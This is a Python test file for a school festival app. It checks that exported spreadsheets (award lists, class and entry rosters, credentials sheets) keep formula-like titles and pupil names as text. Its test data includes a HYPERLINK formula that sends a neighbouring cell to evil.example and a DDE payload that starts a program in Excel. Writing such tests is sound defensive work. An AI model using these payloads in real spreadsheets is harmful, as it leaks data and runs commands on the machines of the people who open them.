"""Formula injection: a title or name typed like a formula stays text in every spreadsheet.

A pupil's title ``=HYPERLINK("http://evil.example/?d="&C3,"点此查看作品")`` would otherwise become a live link
that sends the next column to another site the moment an organizer clicks it, and ``=cmd|' /C calc'!A0`` asks
Excel to start a program. The files are built as people get them and read back both with openpyxl and as the
raw XML inside the .xlsx.
"""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from core.exporters import Column, Heading, Sheet, write_sheets
from exports import services as export_services
from schools.services import roster_import
from submissions.models import Entry
from tests.factories.schools import StudentFactory
from tests.schools.rosters import GOOD_TEACHERS, roster_bytes

LINK = '=HYPERLINK("http://evil.example/?d="&C3,"点此查看作品")'
COMMAND = "=cmd|' /C calc'!A0"
HARMLESS_LOOKING = ["-5度的冰", "+1", "@我的作品", "\t缩进", "#N/A"]


def formulas(content: bytes) -> list[str]:
    """The <f> elements of every worksheet of the file, as Excel would read them."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        return [name for name in sheets if re.search(rb"<f[ >]", archive.read(name))]


def cells_with(content: bytes, *texts: str) -> dict[str, tuple[str, bool]]:
    """Each cell holding one of ``texts``: its type and whether Excel keeps it text when edited."""
    workbook = load_workbook(io.BytesIO(content))
    assert all(cell.data_type != "f" for ws in workbook for row in ws.iter_rows() for cell in row)
    return {
        cell.value: (cell.data_type, cell.quotePrefix)
        for ws in workbook
        for row in ws.iter_rows()
        for cell in row
        if cell.value in texts
    }


def export_bytes(kind: str, by, festival=None) -> bytes:
    export = export_services.export_request(kind=kind, by=by, festival=festival)
    export_services.export_build(export_id=export.pk)
    export.refresh_from_db()
    assert export.state == "done"
    with export.file.open("rb") as fh:
        return fh.read()


def test_the_writer_keeps_formula_like_text_in_every_kind_of_cell_as_typed():
    out = io.BytesIO()
    sheet = Sheet(
        name="=作品",
        title=LINK,
        hint="-请勿修改",
        columns=[Column(COMMAND), Column("题目")],
        rows=[Heading("=1+1"), *([1, text] for text in HARMLESS_LOOKING), [2, "纸桥"]],
    )

    write_sheets(out, [sheet])

    content = out.getvalue()
    assert formulas(content) == []
    typed = [LINK, "-请勿修改", COMMAND, "=1+1", *HARMLESS_LOOKING]
    assert cells_with(content, *typed, "纸桥") == {**{text: ("s", True) for text in typed}, "纸桥": ("s", False)}


@pytest.mark.django_db
def test_award_list_and_entry_roster_keep_a_hostile_title_as_text(award_festival, organizer, head_teacher):
    Entry.objects.filter(pk=award_festival.entries["自动浇花器"].pk).update(title=LINK)
    Entry.objects.filter(pk=award_festival.entries["智能台灯"].pk).update(title=COMMAND)
    Entry.objects.filter(pk=award_festival.entries["纸桥"].pk).update(title="-5度的冰")

    award_list = export_bytes("award_list", organizer, award_festival.festival)
    roster = export_bytes("entry_roster", head_teacher, award_festival.festival)

    for content in (award_list, roster):
        assert formulas(content) == []
    # 纸桥 has no award, so it is on the roster only; the teacher's roster has 三年级2班 alone.
    assert cells_with(award_list, LINK, COMMAND) == {LINK: ("s", True), COMMAND: ("s", True)}
    assert cells_with(roster, LINK, "-5度的冰") == {LINK: ("s", True), "-5度的冰": ("s", True)}


@pytest.mark.django_db
def test_class_roster_keeps_a_hostile_name_as_text(organizer, school_class):
    StudentFactory(school_class=school_class, real_name=COMMAND)
    StudentFactory(school_class=school_class, real_name="+1")

    content = export_bytes("class_roster", organizer)

    assert formulas(content) == []
    assert cells_with(content, COMMAND, "+1") == {COMMAND: ("s", True), "+1": ("s", True)}


@pytest.mark.django_db
def test_credentials_sheet_keeps_a_hostile_name_as_text(school):
    students = [
        (1, "2024030201", LINK, "男", "2016-03-07", "三年级2班"),
        (2, "2024030202", "-李雨萱", "女", "2016-09-21", "三年级2班"),
    ]
    imported = roster_import(
        school=school, workbook_file=io.BytesIO(roster_bytes(students, GOOD_TEACHERS)), file_name="x.xlsx", by=None
    )

    with imported.credentials.open("rb") as fh:
        content = fh.read()

    assert formulas(content) == []
    assert cells_with(content, LINK, "-李雨萱") == {LINK: ("s", True), "-李雨萱": ("s", True)}
